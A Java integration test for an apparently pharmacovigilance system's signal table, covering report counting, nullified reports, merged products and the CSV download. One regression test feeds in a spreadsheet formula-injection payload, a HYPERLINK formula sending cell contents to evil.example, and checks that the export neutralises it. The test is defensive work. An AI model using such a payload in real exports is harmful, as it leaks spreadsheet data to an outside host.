package org.exovigil.app.signals;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.LocalDate;
import java.util.Optional;
import org.exovigil.app.RunningExovigil;
import org.exovigil.app.registry.RegistryReview;
import org.exovigil.app.reports.Channel;
import org.exovigil.app.reports.ReportIntake;
import org.exovigil.app.reports.Submission;
import org.exovigil.app.security.ApiTokens;
import org.exovigil.app.security.Role;
import org.exovigil.app.security.SenderPrincipal;
import org.exovigil.signals.PairStatistics;
import org.exovigil.vigilance.Checked;
import org.exovigil.vigilance.json.ReportJson;
import org.exovigil.vigilance.model.IndividualCaseSafetyReport;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;

/** The signal table follows the case store: current versions, nullifications and merges. */
class CaseSignalsIT extends RunningExovigil {

    @Autowired
    ReportIntake intake;

    @Autowired
    CaseSignals signals;

    @Autowired
    RegistryReview review;

    @Autowired
    JdbcClient jdbc;

    @Autowired
    ApiTokens tokens;

    @Test
    void aPairIsCountedOncePerReportAndTheTableFollowsNewReports() {
        receive("SIG-A-1", "Sigtest Placenta EV", "sigtest sepsis", "sigtest fever", null);
        receive("SIG-A-2", "Sigtest Placenta EV", "Sigtest  Sepsis", null, null);

        assertThat(pair("Sigtest Placenta EV", "sigtest sepsis")).get().satisfies(row -> {
            assertThat(row.n()).isEqualTo(2);
            assertThat(row.nProduct()).isEqualTo(2);
        });

        receive("SIG-A-3", "Sigtest Placenta EV", "sigtest sepsis", null, null);

        assertThat(pair("Sigtest Placenta EV", "sigtest sepsis"))
                .get()
                .extracting(PairStatistics::n)
                .isEqualTo(3L);
        assertThat(signals.casesOf("Sigtest Placenta EV", "sigtest sepsis")).hasSize(3);
    }

    @Test
    void aNullifiedReportLeavesTheTable() {
        receive("SIG-N-1", "Sigtest Cord EV", "sigtest rash", null, null);
        receive("SIG-N-2", "Sigtest Cord EV", "sigtest rash", null, null);
        receive("SIG-N-2", "Sigtest Cord EV", "sigtest rash", null, "duplicate of SIG-N-1");

        assertThat(pair("Sigtest Cord EV", "sigtest rash"))
                .get()
                .extracting(PairStatistics::n)
                .isEqualTo(1L);
    }

    @Test
    void mergedProductsCountAsOne() {
        receive("SIG-M-1", "Sigtest Glow 10", "sigtest headache", null, null);
        receive("SIG-M-2", "Sigtest Glow10", "sigtest headache", null, null);
        long survivor = product("Sigtest Glow 10");
        long duplicate = product("Sigtest Glow10");

        review.merge(RegistryReview.Kind.PRODUCT, duplicate, survivor, "reviewer");

        assertThat(pair("Sigtest Glow 10", "sigtest headache"))
                .get()
                .extracting(PairStatistics::n)
                .isEqualTo(2L);
        assertThat(pair("Sigtest Glow10", "sigtest headache")).isEmpty();
    }

    @Test
    void theTableDownloadsAsTheCsvOfTheSignalsCommand() throws Exception {
        receive("SIG-CSV-1", "Sigtest \\\"Quoted\\\", Serum", "sigtest itch", null, null);
        String token = tokens.issue("signals-reader", Role.RESEARCHER);

        var response = java.net.http.HttpClient.newHttpClient()
                .send(
                        java.net.http.HttpRequest.newBuilder(java.net.URI.create(url("/research/signals.csv")))
                                .header("Authorization", "Bearer " + token)
                                .build(),
                        java.net.http.HttpResponse.BodyHandlers.ofString());

        assertThat(response.statusCode()).isEqualTo(200);
        assertThat(response.body())
                .startsWith(
                        "product,event,n,n_product,n_event,n_total,expected,prr,prr_lower,prr_upper,chi2,ror,ror_lower,ror_upper,ic,ic025,ic975,ebgm,eb05,eb95\n")
                .contains("\"Sigtest \"\"Quoted\"\", Serum\",sigtest itch,1,1,1,");
    }

    /** Issue 15 finding 9: a product named as a formula ran in the researcher's spreadsheet. */
    @Test
    void aNameThatASpreadsheetWouldRunIsNeutralisedInTheDownloadAndShownAsReported() throws Exception {
        String formula = "=HYPERLINK(\\\"https://evil.example/?\\\"&A1,\\\"Sigtest\\\")";
        receive("SIG-FORMULA-1", formula, "@sigtest formula", null, null);
        receive("SIG-FORMULA-2", "-Sigtest Minus", "+sigtest plus", null, null);
        String token = tokens.issue("signals-formula-reader", Role.RESEARCHER);

        var response = java.net.http.HttpClient.newHttpClient()
                .send(
                        java.net.http.HttpRequest.newBuilder(java.net.URI.create(url("/research/signals.csv")))
                                .header("Authorization", "Bearer " + token)
                                .build(),
                        java.net.http.HttpResponse.BodyHandlers.ofString());

        assertThat(response.statusCode()).isEqualTo(200);
        assertThat(response.body())
                .contains("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Sigtest\"\")\",'@sigtest formula,1,")
                .contains("'-Sigtest Minus,'+sigtest plus,1,");
        assertThat(response.body().lines().map(line -> line.substring(0, 1)))
                .noneMatch(first -> "=+-@\t\r".contains(first));
        assertThat(pair("=HYPERLINK(\"https://evil.example/?\"&A1,\"Sigtest\")", "@sigtest formula"))
                .isPresent();
    }

    private Optional<PairStatistics> pair(String product, String event) {
        return signals.current().rows().stream()
                .filter(row -> row.product().equals(product) && row.event().equals(event))
                .findFirst();
    }

    private long product(String name) {
        return jdbc.sql("select id from product where name = ?")
                .param(name)
                .query(Long.class)
                .single();
    }

    /** Each report is of a patient of its own (the same age for the versions of one report). */
    static int patientAge(String senderReportId) {
        return 18 + Math.floorMod(senderReportId.hashCode(), 70);
    }

    private void receive(String id, String product, String term, String secondTerm, String nullification) {
        LocalDate today = LocalDate.now();
        String reactions = "{\"term\": \"%s\"}".formatted(term)
                + (secondTerm == null ? "" : ", {\"term\": \"%s\"}".formatted(secondTerm));
        String body = """
                {"senderReportId": "%s", "receivedOn": "%s", "mostRecentInfoOn": "%s", "country": "US",
                 "reporter": {"qualification": "physician", "country": "US"},
                 "patient": {"ageYears": %d},
                 "products": [{"role": "suspect", "name": "%s", "type": "exosome", "route": "iv"}],
                 "reactions": [%s]%s}""".formatted(
                        id,
                        today,
                        today,
                        patientAge(id),
                        product,
                        reactions,
                        nullification == null
                                ? ""
                                : ", \"nullification\": {\"kind\": \"nullification\", \"reason\": \"%s\"}"
                                        .formatted(nullification));
        var report = (Checked.Accepted<IndividualCaseSafetyReport>) ReportJson.read(body);
        intake.receive(new Submission(
                new SenderPrincipal("test:signals-test", "signals-test"), null, Channel.API, report.value()));
    }
}
